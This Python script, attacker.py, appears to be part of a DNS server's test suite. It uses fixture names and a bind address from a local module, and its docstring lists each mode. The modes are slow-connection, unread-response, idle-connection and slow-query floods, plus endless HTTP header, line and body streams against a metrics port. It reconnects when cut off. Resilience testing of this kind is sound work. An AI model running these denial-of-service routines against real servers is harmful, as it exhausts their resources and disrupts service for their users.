"""An attacker, as a process: attacker.py KIND HOST PORT COUNT SECONDS, and then it says how much it did.

    slow     so many connections, each waits for a name of its own that nobody answers for
    unread   each asks for 60,000 bytes 200 times, and reads none of it
    idle     each asks for nothing
    one      so many queries for one name whose answer takes two seconds, again and again
    headers, line, body      a request to the metrics port that never ends (COUNT connections, one after the other)

Who is cut off connects again: so does an attacker.
"""

import asyncio
import contextlib
import json
import socket
import struct
import sys
import time

from queries import ATTACKER, HUGE, SILENT, SLOW, framed, wire

HEADERS = b"GET /metrics HTTP/1.1\r\nHost: x\r\n"
SENT = {
    "slow": lambda number: framed(wire(f"c{number}.{SILENT}")),
    "unread": lambda _: framed(wire(HUGE, "TXT")) * 200,
    "idle": lambda _: b"",
}
ENDLESS = {
    "headers": (HEADERS, b"X-A: " + b"b" * 1000 + b"\r\n"),
    "line": (b"GET /", b"b" * 65536),
    "body": (HEADERS + b"Content-Length: 9000000000\r\n\r\n", b"b" * 65536),
}


async def until_closed(sock):
    """Without reading: what has come is looked at, and stays."""
    while True:
        await asyncio.sleep(0.5)
        with contextlib.suppress(BlockingIOError):
            if sock.recv(1, socket.MSG_PEEK) == b"" or sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                return


async def connection(address, message, opened):
    loop = asyncio.get_running_loop()
    while True:
        with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
            sock.setblocking(False)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            sock.bind((ATTACKER, 0))
            await loop.sock_connect(sock, address)
            opened.append(1)
            await loop.sock_sendall(sock, message)
            await until_closed(sock)
        await asyncio.sleep(0.1)


async def connections(address, count, until, sent):
    opened = []
    tasks = [asyncio.create_task(connection(address, sent(number), opened)) for number in range(count)]
    await asyncio.sleep(until - time.monotonic())
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    return len(opened)


def one_name(address, count, until, apart=2000):
    sockets = []
    for _ in range((count + 59999) // 60000):
        sockets.append(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        sockets[-1].bind((ATTACKER, 0))
        sockets[-1].connect(address)
    sent = 0
    while time.monotonic() < until:
        message = bytearray(wire(f"t{time.time_ns()}.{SLOW}"))
        for number in range(count):
            struct.pack_into("!H", message, 0, number & 0xffff)
            with contextlib.suppress(OSError):
                sent += sockets[number // 60000].send(message) > 0
            if number % apart == 0:
                time.sleep(0.02)
        time.sleep(max(0, min(2.5, until - time.monotonic())))
    return sent


def endless(address, until, start, piece):
    sent = 0
    while time.monotonic() < until:
        with contextlib.suppress(OSError), socket.create_connection(address, timeout=1) as sock:
            sock.sendall(start)
            while time.monotonic() < until:
                sock.sendall(piece)
                sent += 1
        time.sleep(0.05)
    return sent


def main(kind, host, port, count, seconds):
    address, until = (host, int(port)), time.monotonic() + float(seconds)
    if kind in SENT:
        sent = asyncio.run(connections(address, int(count), until, SENT[kind]))
    elif kind == "one":
        sent = one_name(address, int(count), until)
    else:
        sent = endless(address, until, *ENDLESS[kind])
    print(json.dumps({"asked": sent}))


if __name__ == "__main__":
    main(*sys.argv[1:])
